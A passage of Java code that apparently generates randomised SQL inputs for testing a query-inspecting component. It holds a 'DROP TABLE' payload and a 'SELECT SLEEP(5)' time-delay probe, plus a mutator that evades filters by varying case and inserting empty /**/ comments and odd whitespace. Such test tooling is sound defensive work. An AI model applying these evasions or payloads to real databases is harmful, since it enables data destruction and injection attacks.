            case 1 -> params.addArray().add("DROP TABLE direct_table");
            default -> params.addObject().putObject("nested").put("sql", "SELECT SLEEP(5)");
        }
        return params;
    }

    /** Random letter case, and whitespace or empty comments between words; the statement's meaning stays. */
    String mutate(String sql) {
        StringBuilder out = new StringBuilder(sql.length() + 16);
        boolean inQuote = false;
        char quote = 0;
        boolean upper = random.nextBoolean();
        int style = random.nextInt(4);
        for (int i = 0; i < sql.length(); i++) {
            char c = sql.charAt(i);
            if (inQuote) {
                out.append(c);
                if (c == quote) {
                    inQuote = false;
                }
                continue;
            }
            if (c == '\'' || c == '"' || c == '`') {
                inQuote = true;
                quote = c;
                out.append(c);
                continue;
            }
            if (Character.isLetter(c)) {
                out.append(style == 0 ? (random.nextBoolean() ? Character.toUpperCase(c) : Character.toLowerCase(c))
                        : style == 1 ? (upper ? Character.toUpperCase(c) : Character.toLowerCase(c)) : c);
            } else if (c == ' ' && safeToPad(sql, i)) {
                out.append(switch (random.nextInt(8)) {
                    case 0 -> "\t";
                    case 1 -> "\n";
                    case 2 -> "  ";
                    case 3 -> " /**/ ";
                    case 4 -> "/**/";
                    case 5 -> "\r\n";
                    default -> " ";
                });
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }

    private static boolean safeToPad(String sql, int i) {
        char before = i > 0 ? sql.charAt(i - 1) : ' ';
        char after = i + 1 < sql.length() ? sql.charAt(i + 1) : ' ';
        return "*/-#".indexOf(before) < 0 && "*/-#".indexOf(after) < 0;
    }

    private String quoteQualified(String name) {
        int dot = name.indexOf('.');
        return switch (random.nextInt(4)) {
            case 0 -> "`" + name.substring(0, dot) + "`.`" + name.substring(dot + 1) + "`";
            case 1 -> name.toUpperCase(Locale.ROOT);
            case 2 -> "`" + name.substring(0, dot) + "`." + name.substring(dot + 1);
            default -> name;
        };
    }

    private String randomKey() {
        byte[] bytes = new byte[18];
        random.nextBytes(bytes);
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    @SafeVarargs
    private <T> T pick(T... options) {
        return options[random.nextInt(options.length)];
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
